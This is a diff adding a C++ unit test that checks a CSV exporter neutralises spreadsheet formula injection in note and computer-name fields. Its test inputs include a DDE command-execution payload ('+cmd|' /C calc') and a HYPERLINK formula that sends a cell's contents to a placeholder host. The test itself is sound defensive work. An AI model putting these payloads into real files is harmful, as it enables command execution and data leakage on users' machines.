@@ -189,6 +189,34 @@ TEST(ResultCsv, QuotingAndRows) {
                                                               "1280\xC3\x97" "768 (HD WideScreen),0,,,,,LAB-07\r\n");
 }
 
+// A note or computer name a spreadsheet would run as a formula is written as text; figures
+// (a negative one too) and the other columns are left as they are.
+TEST(ResultCsv, FormulaLikeTextsAreWrittenAsText) {
+    struct Case {
+        const char* text;
+        const char* cell;
+    };
+    const Case cases[] = {{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+                          {"=HYPERLINK(\"http://x/?\"&A1,\"y\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\""},
+                          {"-2+3", "'-2+3"},
+                          {"@SUM(A1)", "'@SUM(A1)"},
+                          {"\t=1", "'\t=1"},
+                          {"\r=1", "\"'\r=1\""},
+                          {"fan = quiet", "fan = quiet"},
+                          {"'quoted", "'quoted"},
+                          {"", ""}};
+    for (const Case& c : cases) {
+        PassRecord pass = SamplePass();
+        pass.note = c.text;
+        pass.computerName = c.text;
+        pass.machine = {{"-CPU", "x"}};
+        const std::string row = CsvRows(pass, pass.resolutions[1], true);
+        EXPECT_EQ(row, "2026-12-10T13:26:14+01:00," + std::string(c.cell) + ",'-CPU: x,1280\xC3\x97" "768 (HD WideScreen),0,,,,," +
+                           c.cell + "\r\n")
+            << c.text;
+    }
+}
+
 // Rows are appended to the table as it is when its lock is taken: a new file gets the header
 // with the computer column, a file made before that column keeps its columns, and a last row
 // cut short by another writer is ended before the new rows.
